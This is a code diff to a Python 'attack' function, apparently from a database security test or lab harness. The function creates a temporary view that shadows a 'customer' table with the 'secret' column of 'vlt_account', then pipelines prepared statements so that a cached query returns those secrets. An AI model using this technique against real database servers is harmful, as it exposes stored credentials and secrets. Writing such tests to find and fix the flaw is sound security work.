@@ -11,5 +11,7 @@ def attack(server: Server) -> bytes:
     run = bind(b"s") + execute()
     shadow = b"CREATE TEMP VIEW customer AS SELECT id, secret AS name FROM vlt_account"
     with server.login() as client:
+        # Nothing of the round has to wait until it is read.
+        ask(client, parse(shadow), SYNC)
         ask(client, parse(b"SELECT name FROM customer", b"s"), SYNC)
         return ask(client, run * TIMES, whole(shadow), run * TIMES, SYNC)
